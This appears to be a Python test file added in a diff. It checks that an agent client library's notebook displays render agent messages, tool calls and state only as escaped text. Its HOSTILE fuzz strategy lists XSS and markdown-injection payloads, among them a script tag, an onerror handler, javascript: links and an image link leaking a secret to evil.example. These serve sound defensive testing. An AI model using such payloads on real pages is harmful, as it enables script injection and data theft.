@@ -1,0 +1,190 @@
+"""Displays in notebooks: what they contain, and that nothing which an agent wrote is more than text."""
+
+from __future__ import annotations
+
+import json
+import os
+from dataclasses import dataclass, field
+from html.parser import HTMLParser
+from typing import Any
+
+import nbformat
+import pytest
+from ag_ui.core import AssistantMessage, Message, StateSnapshotEvent, TokenUsage, ToolMessage, UserMessage
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from nbclient import NotebookClient
+
+from agui_client import ProtocolWarning, ToolExecution, UsageError, tool
+from agui_client._widgets.escaping import exact, sentence
+from agui_client.conversation import Conversation
+from agui_client.notebook.documents import bundle_of
+from agui_client.testing import ScriptedAgent, interrupt, reasoning, text, tool_call, turn
+
+ALIGNED = ("left", "center", "right")
+EXAMPLES = int(os.environ.get("AGUI_DISPLAYS", "15"))
+TEXT_TAGS = "a blockquote br code em h1 h2 h3 h4 h5 h6 hr li ol p pre strong table tbody td th thead tr ul"
+TAGS = {*TEXT_TAGS.split(), "details", "div", "span", "summary"}
+HOSTILE = st.lists(
+    st.sampled_from(
+        [
+            "<script>alert(1)</script>",
+            "<img src=x onerror=alert(1)>",
+            "![x](http://evil.example/?secret)",
+            "[x](javascript:alert(1))",
+            '[x](http://a.example/" onclick="alert(1))',
+            "</div></details>",
+            "<!--",
+            "&#x202e;&lt;b&gt;",
+            "```html\n<iframe>\n",
+            "\n\n<style>*{display:none}</style>\n\n",
+            "[a]: http://evil.example\n![a]",
+            "\x1b[31m\u202e\u2066",
+            "'\"`",
+        ]
+    )
+    | st.text(max_size=10),
+    max_size=4,
+).map("".join)
+VALUES = st.recursive(
+    HOSTILE | st.none() | st.booleans() | st.integers(),
+    lambda inside: st.lists(inside, max_size=3) | st.dictionaries(HOSTILE, inside, max_size=3),
+    max_leaves=6,
+)
+
+
+@tool
+def add(a: int, b: int) -> str:
+    """Add two numbers."""
+    return str(a + b)
+
+
+@dataclass
+class Page(HTMLParser):
+    """The tags, attributes and texts of HTML."""
+
+    tags: set[str] = field(default_factory=set[str])
+    attributes: set[tuple[str, str | None]] = field(default_factory=set[tuple[str, "str | None"]])
+    written: str = ""
+    depth: int = 0
+
+    def __post_init__(self) -> None:
+        super().__init__()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.attributes.update(attrs)
+        self.depth += tag not in ("br", "hr")
+
+    def handle_endtag(self, tag: str) -> None:
+        self.depth -= tag not in ("br", "hr")
+
+    def handle_data(self, data: str) -> None:
+        self.written += data
+
+
+def read(html: str) -> Page:
+    page = Page()
+    page.feed(html.partition("</style>")[2])
+    page.close()
+    return page
+
+
+def plain_of(shown: Any) -> str:
+    return bundle_of(shown)["text/plain"]
+
+
+@pytest.mark.requirement("SEC-8")
+@given(prose=HOSTILE, state=VALUES, name=HOSTILE)
+@settings(max_examples=EXAMPLES, deadline=None)
+def test_nothing_that_an_agent_wrote_is_more_than_text(prose: str, state: Any, name: str) -> None:
+    call: Any = {"id": name, "type": "function", "function": {"name": name, "arguments": prose}}
+    messages: list[Message] = [
+        UserMessage(id="u", content=prose),
+        AssistantMessage(id="a", name=name, content=prose, tool_calls=[call]),
+        ToolMessage(id="t", tool_call_id=name, content=prose, error=prose),
+    ]
+    conversation = Conversation("t", messages, {"state": state}).snapshot()
+    shown = bundle_of(conversation)
+    page = read(shown["text/html"])
+    links = {value for key, value in page.attributes if key == "href"}
+    assert page.tags <= TAGS
+    assert {key for key, _ in page.attributes} <= {"class", "href", "open", "start", "style"}
+    assert {value for key, value in page.attributes if key == "style"} <= {f"text-align:{side}" for side in ALIGNED}
+    assert not any(str(link).lower().startswith(("javascript:", "data:", "vbscript:")) for link in links)
+    assert page.depth == 0
+    assert exact(" ".join(name.split())) in page.written
+    if isinstance(state, str):
+        assert exact(json.dumps(state, ensure_ascii=False).expandtabs(4)) in page.written
+    assert sentence(prose.expandtabs(4)) in page.written
+    for content in shown.values():
+        assert content == sentence(content)
+    assert "<" not in shown["text/markdown"].replace("&lt;", "").partition("```")[0]
+
+
+def test_a_result_shows_the_chat_the_tools_the_state_and_what_it_cost() -> None:
+    agent = ScriptedAgent(
+        turn(
+            reasoning("Numbers."),
+            tool_call("add", {"a": 1, "b": 2}),
+            StateSnapshotEvent(snapshot={"trip": {"legs": ["Oslo"]}}),
+        ),
+        turn(text("It is **3**."), usage=[TokenUsage(model="m", input_tokens=3)]),
+        tools=[add],
+    )
+    result = agent.run_agent_sync("Add 1 and 2")
+    shown = result._repr_mimebundle_()
+    page = read(shown["text/html"])
+    assert "<strong>3</strong>" in shown["text/html"]
+    for part in ("Add 1 and 2", "thought: Numbers.", "→ succeeded", "legs", "m: 3 tokens in, ? out", "total "):
+        assert part in page.written
+        assert part in shown["text/plain"]
+    assert page.tags >= {"details", "summary"}
+    assert shown["text/markdown"].startswith("**user**\n\nAdd 1 and 2\n\n*thought: Numbers.*")
+    assert set(result._repr_mimebundle_(include={"text/html"})) == {"text/html"}
+    assert set(result._repr_mimebundle_(exclude={"text/html"})) == {"text/markdown", "text/plain"}
+    assert "Add 1 and 2" in agent._repr_mimebundle_()["text/plain"]
+    assert agent.snapshot()._repr_mimebundle_()["text/plain"].endswith('"Oslo"\n      ]\n    }\n  }')
+
+
+def test_what_an_agent_waits_for_is_shown() -> None:
+    agent = ScriptedAgent(turn(text("Hm."), outcome=interrupt("Book it?")))
+    result = agent.run_agent_sync("Book")
+    for shown in (result, agent, agent.snapshot()):
+        assert "waits for an answer: Book it?" in plain_of(shown)
+
+
+def test_warnings_executions_and_messages_show_alone_and_in_lists() -> None:
+    warning = ProtocolWarning("PROC-8", "something <odd>", "/a", 3, "CUSTOM", 2)
+    assert plain_of([warning]) == "PROC-8: something <odd> · event 3 CUSTOM · at /a · 2 times"
+    execution = ToolExecution("c", "add", "running", {"a": 1}, progress=["half"])
+    assert plain_of(execution) == 'add {"a": 1} → running\n  {\n    "a": 1\n  }\n  progress: half'
+    message = UserMessage(id="u", content="Hi")
+    assert plain_of(message) == plain_of([message]) == "user: Hi"
+    with pytest.raises(UsageError, match="not int"):
+        bundle_of(1)
+
+
+def test_of_very_many_messages_the_latest_are_shown() -> None:
+    messages = [UserMessage(id=str(each), content=f"number {each}") for each in range(150)]
+    assert plain_of(messages).startswith("50 earlier messages\nuser: number 50\n")
+
+
+CELL = """
+from agui_client.testing import ScriptedAgent, text, turn
+agent = ScriptedAgent(turn(text("Hello <b>you</b>")))
+await agent.run_agent("Hi")
+"""
+
+
+def test_a_notebook_displays_what_a_cell_ends_with() -> None:
+    cells: list[dict[str, Any]] = [
+        {"cell_type": "code", "source": each, "metadata": {}, "outputs": []} for each in (CELL, "agent")
+    ]
+    notebooks: Any = nbformat
+    notebook = notebooks.from_dict({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 4})
+    NotebookClient(notebook, timeout=60, kernel_name="python3").execute()
+    for cell in notebook.cells:
+        (output,) = cell.outputs
+        assert set(output.data) == {"text/html", "text/markdown", "text/plain"}
+        assert "Hello &lt;b&gt;you&lt;/b&gt;" in output.data["text/html"]
